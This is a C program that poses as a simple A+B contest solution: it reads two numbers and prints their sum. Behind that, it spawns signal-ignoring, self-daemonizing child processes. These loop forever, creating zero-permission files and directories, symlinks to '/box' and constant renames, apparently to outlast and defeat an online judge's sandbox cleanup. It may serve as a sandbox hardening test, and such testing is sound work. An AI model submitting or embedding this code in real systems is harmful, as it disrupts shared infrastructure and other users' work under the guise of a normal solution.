#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  long a, b;
  if (scanf("%ld %ld", &a, &b) != 2) return 1;
  mkdir("a", 0700);
  for (int child = 0; child < 12; child++)
    if (fork() == 0) {
      char name[64], other[64];
      setsid();
      for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
      for (long number = 0;; number++) {
        sprintf(name, "a/%d-%ld", child, number % 40);
        sprintf(other, "%d-%ld", child, (number + 1) % 40);
        switch (number % 5) {
          case 0: mkdir(name, 0000); break;
          case 1: if (symlink("/box", name)) break; else break;
          case 2: close(open(name, O_CREAT | O_WRONLY, 0000)); break;
          case 3: renameat2(AT_FDCWD, name, AT_FDCWD, other, 0); break;
          case 4: renameat2(AT_FDCWD, "a", AT_FDCWD, "b", 0), renameat2(AT_FDCWD, "b", AT_FDCWD, "a", 0); break;
        }
        if (number % 7 == 0 && fork() > 0) _exit(0);
      }
    }
  usleep(30000);
  printf("%ld\n", a + b);
}
